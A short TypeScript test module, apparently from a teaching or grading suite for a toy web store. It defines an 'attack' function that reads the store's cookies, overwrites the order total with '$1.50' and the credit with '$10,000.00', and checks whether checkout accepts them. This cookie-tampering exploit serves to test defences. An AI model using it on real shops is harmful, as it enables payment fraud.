// Caught by: pays-a-dollar-fifty, raises-the-credit, any-store
// Misconception: hard-coded-names
// The names that the first store used, beside the cookies of this one.
export default async function attack(fetch: typeof globalThis.fetch, baseUrl: string): Promise<boolean> {
  const response = await fetch(`${baseUrl}/order`);
  const jar: Record<string, string> = {};
  for (const line of response.headers.getSetCookie()) {
    const pair = line.split(';')[0] ?? '';
    jar[pair.slice(0, pair.indexOf('='))] = pair.slice(pair.indexOf('=') + 1);
  }
  jar.total = encodeURIComponent('$1.50');
  jar.credit = encodeURIComponent('$10,000.00');
  const checkout = await fetch(`${baseUrl}/checkout`, {
    method: 'POST',
    headers: {
      cookie: Object.entries(jar)
        .map(([name, value]) => `${name}=${value}`)
        .join('; '),
    },
  });
  const receipt = (await checkout.json()) as { total?: string; credit?: string };
  return receipt.total === '$1.50' && receipt.credit === '$10,000.00';
}
